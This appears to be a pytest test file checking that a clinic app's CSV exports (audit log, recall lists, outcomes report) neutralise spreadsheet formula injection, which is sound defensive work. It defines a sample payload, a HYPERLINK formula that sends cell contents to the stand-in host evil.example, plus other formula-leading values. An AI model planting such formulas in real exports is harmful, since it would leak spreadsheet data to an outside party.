"""Every CSV export writes a patient's or a clinic's own text as text, never as a formula a
spreadsheet would run (the audit log, the recall list over the web and the API, the outcomes
report)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client

from mesocare.audit.choices import AuditAction
from mesocare.audit.services import record
from mesocare.patients.models import Patient

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


def _rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def _cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row]


def _browser(clinic: Any, role: str) -> Client:
    client = Client()
    client.force_login(clinic.user(role))
    return client


def _assert_neutralised(rows: list[list[str]], needle: str) -> None:
    cells = [c for c in _cells(rows) if needle in c]
    assert cells, f"{needle!r} is not in the export"
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in _cells(rows))


def _recipient_named_evil(chart: Any) -> int:
    clinic = chart.clinic
    Patient.objects.filter(pk=clinic.patient.pk).update(
        given_name=EVIL, phone="+39 333 1", email="@x@example.org"
    )
    session = chart.session()
    api = clinic.api("practitioner")
    response = api.post(f"sessions/{session.pk}/injections", chart.injection(chart.caffeine))
    assert response.status_code == 201, response.content
    return int(chart.caffeine.pk)


def test_audit_export_neutralises_formulas(clinic: Any) -> None:
    record(clinic.actor("admin"), AuditAction.UPDATE, clinic.room, summary=EVIL)
    record(clinic.actor("admin"), AuditAction.UPDATE, clinic.room, summary="-1+1")
    rows = _rows(_browser(clinic, "auditor").get("/audit/export.csv"))
    _assert_neutralised(rows, "HYPERLINK")
    assert "'" + EVIL in _cells(rows)
    assert "'-1+1" in _cells(rows)


def test_recall_export_over_the_web_neutralises_formulas(chart: Any) -> None:
    lot_id = _recipient_named_evil(chart)
    rows = _rows(_browser(chart.clinic, "practitioner").get(f"/stock/lots/{lot_id}/recipients.csv"))
    _assert_neutralised(rows, "HYPERLINK")
    assert "'+39 333 1" in _cells(rows) and "'@x@example.org" in _cells(rows)


def test_recall_export_over_the_api_neutralises_formulas(chart: Any) -> None:
    lot_id = _recipient_named_evil(chart)
    rows = _rows(chart.clinic.api("practitioner").get(f"lots/{lot_id}/recipients.csv"))
    _assert_neutralised(rows, "HYPERLINK")


def test_outcomes_export_neutralises_formulas(clinic: Any) -> None:
    from mesocare.catalog.models import Protocol
    from mesocare.catalog.services import copy_protocol
    from mesocare.plans.models import TreatmentPlan
    from mesocare.plans.services import create_plan

    default = Protocol.objects.get(organization__isnull=True, code="striae_ha_silicon_linear")
    copy = copy_protocol(clinic.actor(), default)
    Protocol.objects.filter(pk=copy.pk).update(name="@SUM(1,2)")
    plan = create_plan(clinic.actor(), clinic.patient, protocol=copy)
    TreatmentPlan.objects.filter(pk=plan.pk).update(status="active")
    response = _browser(clinic, "practitioner").get("/reports/outcomes", {"format": "csv"})
    rows = _rows(response)
    _assert_neutralised(rows, "SUM(1,2)")
    assert "'@SUM(1,2)" in _cells(rows)
